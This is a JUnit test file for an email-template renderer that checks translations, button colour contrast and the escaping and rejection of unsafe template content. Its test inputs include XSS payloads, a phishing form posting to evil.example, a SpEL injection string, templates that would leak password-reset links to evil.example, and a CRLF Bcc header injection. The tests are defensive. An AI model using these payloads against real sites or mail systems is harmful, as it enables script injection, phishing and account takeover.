package org.stoa.messaging.templates;

import static org.assertj.core.api.Assertions.assertThat;

import java.util.Arrays;
import java.util.HashMap;
import java.util.List;
import java.util.Map;
import org.jsoup.Jsoup;
import org.junit.jupiter.api.Test;
import org.junit.jupiter.params.ParameterizedTest;
import org.junit.jupiter.params.provider.ValueSource;
import org.stoa.messaging.MailKind;
import org.stoa.shared.Colour;
import org.stoa.shared.Language;
import org.stoa.shared.Problem.FieldError;

/** Templates: what they become, and what they cannot do. */
class WritingTest {
    private static final String LINK = "https://halden.example/reset/abc?x=1&y=2";
    private static final Frame FRAME =
            new Frame("Halden <Øko>", "https://halden.example", "#b3261e", "en", "ltr", "");

    @Test
    void everyKindHasItsWordsInEveryLanguageAndTheyAreSound() {
        for (var language : Language.all()) {
            for (var kind : MailKind.values()) {
                var template = MailTemplates.read(kind, language);
                assertThat(Placeholders.check(kind, template)).as(kind + " " + language).isEmpty();
                var letter = Writing.write(template, values(), FRAME);
                assertThat(letter.subject()).as(kind + " " + language).isNotBlank();
                assertThat(letter.text()).contains(LINK).doesNotContain("{{", "\uE000");
                assertThat(letter.html()).doesNotContain("{{", "\uE000", "link.invalid");
                assertThat(Jsoup.parse(letter.html()).select("a[href]").eachAttr("href"))
                        .as(kind + " " + language)
                        .contains(LINK);
            }
        }
        assertThat(MailTemplates.read(MailKind.RESET, Language.english()))
                .isNotEqualTo(MailTemplates.read(MailKind.RESET, spanish()));
    }

    @Test
    void aLinkAloneIsAButtonInTheSchoolsColour() {
        var letter = write("Hello {{name}},\n\n[Set it]({{link}})", Map.of("name", "Ada"));
        var button =
                java.util.Objects.requireNonNull(
                        Jsoup.parse(letter.html()).select("td[style*=#b3261e] > a").first());
        assertThat(button.text()).isEqualTo("Set it");
        assertThat(button.attr("style")).contains("#ffffff");
        assertThat(letter.text()).contains("Set it:\n" + LINK);
    }

    @ParameterizedTest
    @ValueSource(
            strings = {"#ffffff", "#ffff00", "#000000", "#767676", "#1d5a96", "#b3261e", "#00ff00"})
    void whateverTheColourItsWordsCanBeRead(String accent) {
        var words = MailHtml.on(Colour.of(accent)).toString();
        assertThat(contrast(accent, words)).as(accent + " " + words).isGreaterThan(4.5);
    }

    /** A value is text, whatever it looks like. */
    @Test
    void whatPeopleAreCalledBecomesNeitherMarkupNorLink() {
        var name = "<img src=x onerror=alert(1)> **Ada** [x](https://evil.example) {{link}} &amp;";
        var letter =
                write(
                        "Hello {{name}}, {{course}}\n\n[Set it]({{link}})",
                        Map.of("name", name, "course", "# C"));
        var page = Jsoup.parse(letter.html());
        assertThat(page.select("img, script, strong, h1")).isEmpty();
        assertThat(page.select("a[href*=evil]")).isEmpty();
        assertThat(page.text()).contains(name);
        assertThat(letter.text()).contains(name);
        assertThat(letter.html()).doesNotContain("onerror=alert(1)>");
    }

    @ParameterizedTest
    @ValueSource(
            strings = {
                "<script>alert(1)</script>",
                "<img src=x onerror=alert(1)>",
                "[click](javascript:alert(1))",
                "[click](data:text/html;base64,PHNjcmlwdD4=)",
                "![track](https://evil.example/pixel.gif)",
                "<style>body{display:none}</style>",
                "<iframe src=https://evil.example></iframe>",
                "<form action=https://evil.example><input name=password></form>"
            })
    void aTemplateBringsNothingInThatActs(String body) {
        var letter = write(body + "\n\n[Set it]({{link}})", Map.of());
        var page = Jsoup.parse(letter.html());
        assertThat(page.select("script, img, style, iframe, form, input, [onerror]")).isEmpty();
        assertThat(page.select("a").eachAttr("href"))
                .allMatch(href -> href.startsWith("https://halden.example"));
    }

    @Test
    void aPlaceholderThatThereIsNotIsNamedWithItsLine() {
        var errors = check("Hi {{nmae}}", "Hello {{name}}\n\n{{password}}\n[x]({{link}})");
        assertThat(errors).extracting(FieldError::field).containsExactly("subject", "body");
        assertThat(errors.getFirst().message()).contains("Line 1", "nmae");
        assertThat(errors.getLast().message()).contains("Line 3", "password", "name, school, link");
    }

    @ParameterizedTest
    @ValueSource(
            strings = {
                "{{#if name}}x{{/if}}",
                "{{name",
                "name}}",
                "${name}",
                "#{T(java.lang.Runtime).getRuntime()}",
                "<% code %>",
                "{% for x in y %}",
                "{{name()}}",
                "{{{name}}}",
                "{{school.organization.secret}}"
            })
    void nothingButPlaceholdersIsTaken(String words) {
        assertThat(check("A subject", words + "\n[x]({{link}})")).isNotEmpty();
    }

    /** Else whoever writes a school's words could have a key to each account brought to them. */
    @ParameterizedTest
    @ValueSource(
            strings = {
                "https://evil.example/?u={{link}}",
                "[x](https://evil.example/?u={{link}})",
                "evil.example/{{ link }}",
                "{{link}}.evil.example"
            })
    void aKeyStandsAloneOrNotAtAll(String words) {
        assertThat(check("A subject", words + "\n[x]({{link}})")).isNotEmpty();
        assertThat(check("A {{link}}", "[x]({{link}})")).isNotEmpty();
        assertThat(check("A subject", "{{link}}\n[x]({{link}})")).isEmpty();
    }

    @Test
    void whatIsTooLongOrEmptyIsRefused() {
        assertThat(check("", "[x]({{link}})")).isNotEmpty();
        assertThat(check("s".repeat(201), "[x]({{link}})")).isNotEmpty();
        assertThat(check("two\nlines", "[x]({{link}})")).isNotEmpty();
        assertThat(check("s", "x".repeat(20_000) + "[x]({{link}})")).isNotEmpty();
        assertThat(check("s", "")).isNotEmpty();
        assertThat(check("s", "A mail to come in by, without its link")).isNotEmpty();
    }

    @Test
    void aSubjectIsOneLineWhateverIsPutIn() {
        var letter =
                Writing.write(
                        new MailTemplate("New in {{course}}", "[x]({{link}})"),
                        Map.of("course", "A\r\nBcc: b@example.org", "link", LINK),
                        FRAME);
        assertThat(letter.subject()).isEqualTo("New in A Bcc: b@example.org");
    }

    private static List<FieldError> check(String subject, String body) {
        return Placeholders.check(MailKind.RESET, new MailTemplate(subject, body));
    }

    private static Letter write(String body, Map<String, String> values) {
        var all = new HashMap<>(values);
        all.put("link", LINK);
        return Writing.write(new MailTemplate("A subject", body), all, FRAME);
    }

    private static Map<String, String> values() {
        var values = new HashMap<String, String>();
        Arrays.stream(MailKind.values())
                .flatMap(kind -> kind.placeholders().stream())
                .forEach(name -> values.put(name, "The " + name));
        values.put("link", LINK);
        return values;
    }

    private static Language spanish() {
        return java.util.Objects.requireNonNull(Language.of("es"));
    }

    private static double contrast(String one, String other) {
        double a = luminance(one);
        double b = luminance(other);
        return (Math.max(a, b) + .05) / (Math.min(a, b) + .05);
    }

    private static double luminance(String colour) {
        double sum = 0;
        double[] weights = {.2126, .7152, .0722};
        for (int i = 0; i < 3; i++) {
            double c = Integer.parseInt(colour.substring(1 + 2 * i, 3 + 2 * i), 16) / 255.0;
            sum += weights[i] * (c <= .04045 ? c / 12.92 : Math.pow((c + .055) / 1.055, 2.4));
        }
        return sum;
    }
}
